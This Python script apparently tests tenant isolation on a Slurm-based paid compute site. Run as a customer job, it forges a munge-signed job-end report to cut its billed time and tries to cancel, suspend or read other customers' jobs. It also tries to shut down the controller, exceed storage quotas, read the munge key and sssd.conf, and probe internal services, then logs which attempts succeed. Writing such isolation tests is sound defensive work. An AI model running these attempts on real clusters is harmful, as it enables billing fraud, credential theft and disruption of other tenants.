# SPDX-License-Identifier: Apache-2.0
"""Attack the site from a paid job, which runs on a compute node as a wallet's user.

    hostile_job.py VICTIM HOME OUTPUT

VICTIM is the Slurm id of another customer's running job, and HOME is that customer's home
directory. The program writes a JSON object to OUTPUT. Key "attempts" contains the result of each
attempt: "refused: ..." with the error, or "done: ..." with the output. Key "forged_end_at" is the
end time in the forged report of this job.
"""

import json
import os
import socket
import ssl
import subprocess
import sys
import time
from pathlib import Path

TIMEOUT_S = 20
CONNECT_TIMEOUT_S = 5
# The job runs at least this long after it sends the forged report. The job's real end time and its
# cost therefore differ from those that would follow from the forged report.
DELAY_AFTER_FORGERY_S = 3
OWN_JOB_ID = os.environ["SLURM_JOB_ID"]
CHUNK_BYTES = 64 << 20
QUOTA_CHUNKS = (1 << 30) // CHUNK_BYTES
SCRIPT = "#!/bin/sh\ntrue\n"


def run_tool(*argv, text=""):
    """Run a Slurm tool outside of the job's allocation, as a user in a shell does."""
    environment = dict(os.environ)
    for name in os.environ:
        if name.startswith(("SLURM_", "SBATCH_")):
            del environment[name]
    environment["LDAPTLS_CACERT"] = "/etc/gridstead/pki/ca.crt"
    try:
        result = subprocess.run(
            argv,
            input=text,
            env=environment,
            check=False,
            capture_output=True,
            text=True,
            timeout=TIMEOUT_S,
        )
    except subprocess.TimeoutExpired:
        return f"done: {argv[0]} still waits after {TIMEOUT_S} s"
    output = " ".join((result.stdout + result.stderr).split())[:300]
    return f"refused: {output}" if result.returncode else f"done: {output}"


def read_script(victim):
    """Read the script of another job."""
    result = run_tool("scontrol", "write", "batch_script", victim, "-")
    # scontrol exits with 0 even if slurmctld refuses the request.
    return result if "#!" in result else f"refused: {result}"


def forge_end():
    """Send a report of this job's end to the agent, and return the time in the report."""
    now = int(time.time())
    report = f"gridstead1 end {OWN_JOB_ID} {os.getuid()} batch {socket.gethostname()} {now} {now}"
    credential = subprocess.run(
        ["munge", "--ttl=60"], input=report.encode(), check=True, capture_output=True
    ).stdout
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp_socket:
        udp_socket.sendto(credential.strip(), ("controller", 6831))
    return now


def connect(host, port):
    """Open a TCP connection and send nothing."""
    try:
        socket.create_connection((host, port), timeout=CONNECT_TIMEOUT_S).close()
    except OSError as error:
        return f"refused: {type(error).__name__}"
    return "done: connected"


def call_agent():
    """Send an HTTP/2 preface to the agent without a client certificate, and read the answer."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        with (
            socket.create_connection(("controller", 6830), timeout=CONNECT_TIMEOUT_S) as plain,
            context.wrap_socket(plain, server_hostname="controller") as secure,
        ):
            # The preface ends with an empty SETTINGS frame.
            secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            answer = secure.recv(100)
    except OSError as error:
        return f"refused: {error}"
    return f"done: {answer!r}" if answer else "refused: the connection was closed"


def open_socket(path):
    """Open a Unix socket."""
    try:
        with socket.socket(socket.AF_UNIX) as stream:
            stream.connect(path)
    except OSError as error:
        return f"refused: {type(error).__name__}"
    return "done: connected"


def read_path(path):
    """Read a file, or list a directory."""
    try:
        if Path(path).is_dir():
            content = list(Path(path).iterdir())
        else:
            content = Path(path).read_bytes()[:40]
    except OSError as error:
        return f"refused: {type(error).__name__}"
    return f"done: {content!r}"


def fill_storage(directory):
    """Write more MooseFS chunks than the quota of the directory (see inventory/lab) allows."""
    large_file = Path(directory) / "large-file"
    try:
        with large_file.open("wb", buffering=0) as file:
            for chunk in range(1, QUOTA_CHUNKS + 2):
                # Write only the last byte of the chunk.
                file.seek(chunk * CHUNK_BYTES - 1)
                file.write(b"x")
                os.fsync(file.fileno())
    except OSError as error:
        return f"refused: {error}"
    finally:
        large_file.unlink()
    return f"done: {chunk * CHUNK_BYTES} bytes"


def attempts(victim, victims_home):
    """Make the attempts. Yield the name and the result of each attempt."""
    yield "sbatch", run_tool("sbatch", text=SCRIPT)
    yield "sbatch in the name of root", run_tool("sbatch", "--uid=0", text=SCRIPT)
    yield "salloc", run_tool("salloc", "true")
    yield "srun outside of the job", run_tool("srun", "true")
    yield "srun in another's job", run_tool("srun", f"--jobid={victim}", "--overlap", "true")
    yield "scrontab", run_tool("scrontab", "-", text="@hourly true\n")
    yield (
        "more time for itself",
        run_tool("scontrol", "update", f"jobid={OWN_JOB_ID}", "timelimit=+600"),
    )
    yield (
        "another job key for itself",
        run_tool("scontrol", "update", f"jobid={OWN_JOB_ID}", "admincomment=1/0x0/0x0/x"),
    )
    yield (
        "another name for itself",
        run_tool("scontrol", "update", f"jobid={OWN_JOB_ID}", "name=0x1"),
    )
    yield "requeue itself", run_tool("scontrol", "requeue", OWN_JOB_ID)
    yield "less time for another", run_tool("scontrol", "update", f"jobid={victim}", "timelimit=1")
    yield "suspend another", run_tool("scontrol", "suspend", victim)
    yield "hold another", run_tool("scontrol", "hold", victim)
    yield "requeue another", run_tool("scontrol", "requeue", victim)
    yield "read another's script", read_script(victim)
    yield "scancel another", run_tool("scancel", victim)
    yield "signal another", run_tool("scancel", "--signal=KILL", "--full", victim)
    yield (
        "drain a node",
        run_tool("scontrol", "update", "nodename=compute1", "state=drain", "reason=x"),
    )
    yield "stop slurmctld", run_tool("scontrol", "shutdown")
    yield "reconfigure slurmctld", run_tool("scontrol", "reconfigure")
    yield "token of Slurm's REST API", run_tool("scontrol", "token")
    yield "add an account", run_tool("sacctmgr", "--immediate", "add", "account", "evil")
    yield (
        "limits of an account",
        run_tool("sacctmgr", "--immediate", "modify", "account", "grid", "set", "maxjobs=0"),
    )
    yield "add a trigger", run_tool("strigger", "--set", "--node", "--down", "--program=/bin/true")
    yield "call the agent", call_agent()
    yield "slurmrestd over TCP", connect("controller", 6820)
    yield "slurmrestd over its socket", open_socket("/run/slurmrestd/slurmrestd.socket")
    for port in (9419, 9420, 9421, 9422):
        yield f"connect to MooseFS, port {port}", connect("infra", port)
    yield "connect to the chain", connect("control", 8545)
    yield "connect to the database", connect("db", 3306)
    search = ("ldapsearch", "-x", "-H", "ldaps://infra", "-b", "dc=gridstead,dc=internal", "-LLL")
    yield "directory without credentials", run_tool(*search, "(objectClass=*)", "uid")
    yield "use more storage than the quota", fill_storage(Path.home())
    yield "home of another", read_path(victims_home)
    yield "munge's key", read_path("/etc/munge/munge.key")
    yield "password of the directory", read_path("/etc/sssd/sssd.conf")


def main():
    """Make every attempt and write the results."""
    victim, victims_home, output = sys.argv[1:]
    report = {"forged_end_at": forge_end(), "attempts": dict(attempts(victim, victims_home))}
    time.sleep(DELAY_AFTER_FORGERY_S)
    Path(output).write_text(json.dumps(report, indent=2))


main()
